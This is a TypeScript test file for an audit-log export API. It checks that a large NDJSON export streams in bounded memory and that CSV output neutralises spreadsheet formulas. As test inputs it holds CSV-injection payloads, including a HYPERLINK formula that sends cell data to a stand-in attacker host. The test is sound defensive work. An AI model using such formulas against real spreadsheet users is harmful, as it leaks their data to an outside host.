// GET /v1/audit/export streams any size of log in bounded memory, as NDJSON or as CSV that a
// spreadsheet cannot mistake for formulas.
import t from 'tap'
import v8 from 'node:v8'
import vm from 'node:vm'
import { sql } from 'drizzle-orm'
import { as, buildTestApp, createAccount, createOrg } from '../helper.js'
import { onPg, owner, privateApp } from './private-db.js'

// Hundreds of thousands of events: on a loaded machine this file may need more than the default
// two minutes. A limit on the run, not an assertion on timing.
t.setTimeout(300_000)

// 200,000 on a private PostgreSQL database; PGlite (WebAssembly, in this process) gets fewer but
// larger events, so both streams are ~100 MB: more than the bound, were the export buffered.
const SYNTHETIC = onPg ? 200_000 : 50_000
const PAD = onPg ? 200 : 1_700
const MB = 1024 * 1024
const RSS_BOUND = 150 * MB
// Client and server share this process, and V8 lets short-lived garbage pile up to hundreds of MB
// before a full collection: without collecting now and then, peak RSS measures the collector's
// laziness, not what the export holds. Collect every ~8 MB received; buffering would still show.
v8.setFlagsFromString('--expose-gc')
const gc = vm.runInNewContext('gc') as () => void
const GC_EVERY_BYTES = 8 * MB

t.test(`exporting ${SYNTHETIC} events streams in bounded memory`, async (t) => {
  const app = await privateApp(t)
  const org = await createOrg(app)
  const auditor = await createAccount(app, org.id, ['auditor'])
  app.chainer.stop() // chaining 200k events at the same time would measure the chainer, not the export
  await app.database.asOwner((q) =>
    q(
      sql.raw(`INSERT INTO audit_events (action, outcome, details)
               SELECT 'synthetic', 'ok', jsonb_build_object('i', g, 'pad', repeat('x', ${PAD})) FROM generate_series(1, ${SYNTHETIC}) g`),
    ),
  )
  const [count] = await owner(app, 'select count(*)::int as n from audit_events')
  const before = Number(count?.n)
  t.ok(before >= SYNTHETIC, `${before} events in the log`)

  await app.listen({ port: 0, host: '127.0.0.1' })
  const { port } = app.server.address() as { port: number }

  gc()
  const start = process.memoryUsage().rss
  const startHeap = process.memoryUsage().heapUsed
  let peak = start
  let peakHeap = 0
  let sinceGc = 0
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss)
  }, 50)
  t.teardown(() => clearInterval(sampler))

  const res = await fetch(`http://127.0.0.1:${port}/v1/audit/export`, { headers: { authorization: `Bearer ${auditor.token}` } })
  t.equal(res.status, 200)
  t.match(res.headers.get('content-type'), /application\/x-ndjson/)
  t.match(res.headers.get('content-disposition'), /attachment; filename="dcx-audit-.*\.ndjson"/)
  t.notOk(res.headers.get('content-length'), 'streamed, not buffered: no content-length')
  let lines = 0
  let synthetic = 0
  let bytes = 0
  let lastId = 0
  let ordered = true
  let tail = ''
  const decoder = new TextDecoder()
  for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) {
    bytes += chunk.byteLength
    sinceGc += chunk.byteLength
    if (sinceGc >= GC_EVERY_BYTES) {
      gc()
      sinceGc = 0
      peakHeap = Math.max(peakHeap, process.memoryUsage().heapUsed - startHeap)
    }
    const text = tail + decoder.decode(chunk, { stream: true })
    const parts = text.split('\n')
    tail = parts.pop() ?? ''
    for (const line of parts) {
      lines++
      if (line.includes('"action":"synthetic"')) synthetic++
      const id = Number(/^\{"id":(\d+),/.exec(line)?.[1])
      if (!(id > lastId)) ordered = false
      lastId = id
    }
    peak = Math.max(peak, process.memoryUsage().rss)
  }
  clearInterval(sampler)
  t.equal(tail, '', 'the stream ends with a newline')
  t.equal(synthetic, SYNTHETIC, 'every synthetic event exported')
  t.ok(lines === before || lines === before + 1, `all ${before} events (and perhaps the export's own) — got ${lines}`)
  t.ok(ordered, 'oldest first, each id once')
  t.ok(bytes > SYNTHETIC * PAD, `${Math.round(bytes / MB)} MB streamed`)
  const growth = peak - start
  t.ok(growth < RSS_BOUND, `RSS grew ${Math.round(growth / MB)} MB while ${Math.round(bytes / MB)} MB were streamed (bound ${RSS_BOUND / MB} MB)`)
  t.ok(peakHeap < 64 * MB, `live heap at most ${Math.round(peakHeap / MB)} MB above the start (bound 64 MB)`)
})

/** RFC 4180: quoted cells, doubled quotes, newlines inside quotes. */
function parseCsv(text: string): string[][] {
  const out: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\n') {
      row.push(cell)
      out.push(row)
      row = []
      cell = ''
    } else cell += c
  }
  if (cell || row.length) {
    row.push(cell)
    out.push(row)
  }
  return out
}

t.test('CSV export: header, one row per event, formulas neutralised', async (t) => {
  const app = await buildTestApp(t)
  const org = await createOrg(app)
  const auditor = await createAccount(app, org.id, ['auditor'])
  const reader = await createAccount(app, org.id, ['reader'])
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', 'plain, "quoted" agent']
  for (const ua of hostile) await as(app, reader.token).get('/v1/me', { 'user-agent': ua })

  const res = await as(app, auditor.token).get(`/v1/audit/export?format=csv&accountId=${reader.id}`)
  t.equal(res.statusCode, 200)
  t.match(res.headers['content-type'], /^text\/csv/)
  t.match(res.headers['content-disposition'], /\.csv"/)
  t.equal(res.headers['cache-control'], 'no-store')
  const [header, ...rows] = parseCsv(res.body)
  t.same(
    header,
    [
      'id',
      'sequence',
      'time',
      'accountId',
      'organisationId',
      'clientId',
      'action',
      'resourceType',
      'resourceId',
      'outcome',
      'status',
      'requestId',
      'clientAddress',
      'userAgent',
      'details',
      'hash',
      'previousHash',
      'scheme',
      'payloadDigest',
      'pruned',
    ],
    'header row',
  )
  t.equal(rows.length, hostile.length, 'one row per event')
  t.ok(
    rows.every((r) => r.length === (header as string[]).length),
    'every row has every column',
  )
  const uaCol = (header as string[]).indexOf('userAgent')
  t.same(
    rows.map((r) => r[uaCol]),
    hostile.map((ua) => (/^[=+\-@\t]/.test(ua) ? `'${ua}` : ua)),
    'formula-looking cells are prefixed with a quote',
  )
  t.same(
    rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)),
    [],
    'no cell starts as a formula',
  )
  t.ok(
    rows.every((r) => r[(header as string[]).indexOf('accountId')] === reader.id),
    'the filter applies to CSV',
  )
  const details = JSON.parse(rows[0]?.[(header as string[]).indexOf('details')] ?? 'null')
  t.type(details, 'object', 'details is JSON inside its cell')

  const nd = await as(app, auditor.token).get(`/v1/audit/export?accountId=${reader.id}`)
  t.same(
    nd.body
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l).userAgent),
    hostile,
    'NDJSON keeps the values as they were',
  )
  t.equal((await as(app, auditor.token).get('/v1/audit/export?format=xlsx')).statusCode, 400)
})
